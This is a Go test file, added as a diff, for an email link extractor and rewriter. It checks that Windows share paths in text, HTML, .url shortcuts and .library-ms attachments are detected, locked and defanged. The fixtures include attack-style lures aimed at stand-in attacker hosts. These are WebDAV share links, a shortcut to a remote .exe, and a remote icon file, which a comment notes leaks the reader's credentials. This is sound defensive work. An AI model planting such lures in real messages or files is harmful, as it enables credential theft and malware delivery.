@@ -1,0 +1,109 @@
+package links
+
+import (
+	"bytes"
+	"slices"
+	"testing"
+)
+
+// TestSharePaths: a Windows share path (\\host\share) in text, in an HTML
+// part's text and in an href, which Outlook opens as a share, is a link to
+// file://host/share, opened as a share (FlagAppScheme), its host judged as
+// any link's; drive paths, escaped strings, escape sequences and regular
+// expressions are not.
+func TestSharePaths(t *testing.T) {
+	const text, html = "Content-Type: text/plain\r\n\r\n", "Content-Type: text/html\r\n\r\n"
+	for _, tc := range []struct {
+		name, msg string
+		want      []string
+	}{
+		{"IP address in text", text + `Open \\203.0.113.5\docs\invoice.pdf today.`, []string{"file://203.0.113.5/docs/invoice.pdf"}},
+		{"name in brackets", text + `(see \\files.evil.example\share\Q3.xlsx).`, []string{"file://files.evil.example/share/Q3.xlsx"}},
+		{"WebDAV over TLS", text + `\\evil.example@SSL\DavWWWRoot\invoice.lnk`, []string{"file://evil.example/DavWWWRoot/invoice.lnk"}},
+		{"file: before a share", text + `at file:\\evil.example\docs\x.pdf`, []string{"file://evil.example/docs/x.pdf"}},
+		{"single-label server", text + "Files are on \\\\fs01\\public\\team now.", []string{"file://fs01/public/team"}},
+		{"HTML text", html + `<p>Open \\files.evil.example\s\a.pdf</p>`, []string{"file://files.evil.example/s/a.pdf"}},
+		{"href", html + `<a href="\\203.0.113.5\docs\x.pdf">invoice</a>`, []string{"file://203.0.113.5/docs/x.pdf"}},
+		{"href with a base", html + `<base href="https://site.example/"><a href="\\h.example\s\x">x</a>`, []string{"file://h.example/s/x"}},
+		{"drive path", text + `C:\\Users\\bob\\file.txt and C:\Windows\x`, nil},
+		{"escaped string", text + `path = "\\\\server\\share\\x"`, nil},
+		{"escape sequence", text + `printf("\\n\t");`, nil},
+		{"regular expression", text + `grep -P "\\d+\\s" and \\w+\s`, nil},
+		{"server without a share", text + `the server \\fileserver is down`, nil},
+		{"device paths", text + `\\?\C:\x \\.\pipe\x`, nil},
+		{"this machine", text + `\\localhost\c$\x`, nil},
+		{"after a word", text + `abc\\host\share`, nil},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			ls, _ := Extract([]byte(tc.msg), Options{})
+			var got []string
+			for _, l := range ls {
+				got = append(got, l.URL)
+				if !l.Flags.Has(FlagAppScheme) || l.Scheme != "file" {
+					t.Errorf("%s: scheme %q, flags %v; want a file share", l.URL, l.Scheme, l.Flags)
+				}
+			}
+			if !slices.Equal(got, tc.want) {
+				t.Errorf("links = %q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+// TestSharePathRewrite: a share path in text is rewritten whole, its host
+// named in the marker, defanged.
+func TestSharePathRewrite(t *testing.T) {
+	msg := []byte("Content-Type: text/plain\r\n\r\nOpen \\\\203.0.113.5\\docs\\invoice.pdf today.\r\n")
+	ls, _ := Extract(msg, Options{})
+	if len(ls) != 1 {
+		t.Fatalf("%d links, want 1", len(ls))
+	}
+	out, err := Rewrite(msg, map[Ref]string{ls[0].Ref(): "https://lock.example/l/1"}, Options{})
+	want := "Open https://lock.example/l/1 [locked: 203[.]0[.]113[.]5] today.\r\n"
+	if err != nil || !bytes.Equal(Body(out), []byte(want)) {
+		t.Errorf("Rewrite = %q, %v; want %q", Body(out), err, want)
+	}
+}
+
+// TestSharePathDisplayDefanged: an HTML link whose text shows a share
+// path keeps the path, its host defanged, when the link is locked.
+func TestSharePathDisplayDefanged(t *testing.T) {
+	msg := []byte("Content-Type: text/html\r\n\r\n<a href=\"\\\\files.evil.example\\s\\a.pdf\">\\\\files.evil.example\\s\\a.pdf</a>")
+	ls, _ := Extract(msg, Options{})
+	if len(ls) != 1 {
+		t.Fatalf("%d links, want 1", len(ls))
+	}
+	out, err := Rewrite(msg, map[Ref]string{ls[0].Ref(): "https://lock.example/l/1"}, Options{})
+	if want := `\\files[.]evil[.]example\s\a.pdf</a>`; err != nil || !bytes.Contains(Body(out), []byte(want)) {
+		t.Errorf("Rewrite = %q, %v; want the text %q", Body(out), err, want)
+	}
+}
+
+// TestShortcutShares: a Windows shortcut (.url) whose address or icon is
+// on a share (Windows fetches the icon when it shows the file, sending the
+// reader's credentials) gives links to those shares; a library file's
+// share location too.
+func TestShortcutShares(t *testing.T) {
+	att := func(name, body string) []byte {
+		return []byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" +
+			"--b\r\nContent-Type: application/octet-stream; name=\"" + name + "\"\r\n\r\n" + body + "\r\n--b--\r\n")
+	}
+	for _, tc := range []struct {
+		name, body string
+		want       []string
+	}{
+		{"Invoice.url", "[InternetShortcut]\r\nURL=file:\\\\198.51.100.9\\pub\\inv.exe\r\nIconFile=\\\\icons.evil.example\\i\\pdf.ico\r\nIconIndex=1\r\n",
+			[]string{"file://198.51.100.9/pub/inv.exe", "file://icons.evil.example/i/pdf.ico"}},
+		{"Docs.library-ms", "<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\dav.evil.example@SSL\\DavWWWRoot</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>",
+			[]string{"file://dav.evil.example/DavWWWRoot"}},
+	} {
+		ls, _ := Extract(att(tc.name, tc.body), Options{})
+		var got []string
+		for _, l := range ls {
+			got = append(got, l.URL)
+		}
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("%s: links %q, want %q", tc.name, got, tc.want)
+		}
+	}
+}
